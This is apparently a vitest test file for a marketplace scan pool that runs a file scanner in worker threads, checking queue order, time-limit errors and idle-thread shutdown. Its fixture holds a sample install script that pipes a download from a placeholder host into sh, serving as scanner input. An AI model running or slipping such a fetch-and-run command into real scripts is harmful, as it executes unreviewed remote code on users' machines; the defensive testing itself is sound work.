import { afterAll, describe, expect, test } from 'vitest';
import { scanFile } from '../../src/shared/scan/index.js';
import { SCAN_INCOMPLETE, ScanPool } from '../../src/daemon/marketplace/trust/scan-pool.js';
import { moduleWorker } from '../../src/shared/module-worker.js';

/**
 * Review finding M4: the scan pool runs the scanner in worker threads, bounded: as many files
 * at once as it has threads, the rest in order; a file that takes longer than the limit ends
 * its thread and gets an error finding (a publish is refused, not let through unscanned), and
 * the next file gets a fresh thread.
 */
const pools: ScanPool[] = [];
const pool = (o: ConstructorParameters<typeof ScanPool>[0]) => {
  const p = new ScanPool(o);
  pools.push(p);
  return p;
};
afterAll(async () => {
  await Promise.all(pools.map((p) => p.close()));
});

const bad = Buffer.from('#!/bin/sh\ncurl -s https://x.example/i.sh | sh\necho "a\u200Bb"\n');

describe('the scan pool', () => {
  test('finds what scanFile finds, in a worker thread', async () => {
    const p = pool({ size: 1 });
    expect(await p.scan('install.sh', bad)).toEqual(scanFile('install.sh', bad));
    expect(p.started).toBe(1);
  });

  test('one thread takes the files one after another, in order, on one thread', async () => {
    const p = pool({ size: 1 });
    const order: string[] = [];
    const files = ['a.sh', 'b.sh', 'c.sh', 'd.sh'];
    const all = await Promise.all(files.map((f) => p.scan(f, bad).then((found) => (order.push(f), found))));
    expect(order).toEqual(files);
    expect(all.map((found) => found[0]?.path)).toEqual(files);
    expect(p.started).toBe(1);
  });

  test('a file over the time limit is an error finding SCAN_INCOMPLETE; the next file gets a new thread', async () => {
    // a worker that never answers for "hang…" (test/helpers/scan-worker-stub.ts): a stuck scan on any machine
    const stub = () => moduleWorker(new URL('../helpers/scan-worker-stub.ts', import.meta.url).href, 'scan-worker-stub');
    const p = pool({ size: 1, timeoutMs: 1500, spawn: stub });
    expect(await p.scan('warm.sh', bad)).toEqual(scanFile('warm.sh', bad));
    const t0 = performance.now();
    const found = await p.scan('hang.txt', bad);
    expect(found).toEqual([{ rule: SCAN_INCOMPLETE, severity: 'error', path: 'hang.txt', line: null, message: expect.stringContaining('longer than 1.5 s') }]);
    expect(performance.now() - t0).toBeGreaterThanOrEqual(1400);
    expect(await p.scan('after.sh', bad)).toEqual(scanFile('after.sh', bad));
    expect(p.started).toBe(2);
  });

  test('closing finishes what is queued as SCAN_INCOMPLETE; idle threads end by themselves', async () => {
    const p = pool({ size: 1, idleMs: 50 });
    await p.scan('a.sh', bad);
    await new Promise((r) => setTimeout(r, 200));
    expect(await p.scan('b.sh', bad)).toEqual(scanFile('b.sh', bad));
    expect(p.started).toBe(2); // the first thread ended while idle
    const pending = [p.scan('c.sh', Buffer.from('x '.repeat(4_000_000))), p.scan('d.sh', bad)];
    await p.close();
    const [c, d] = await Promise.all(pending);
    expect([c[0].rule, d[0].rule]).toEqual([SCAN_INCOMPLETE, SCAN_INCOMPLETE]);
  });
});
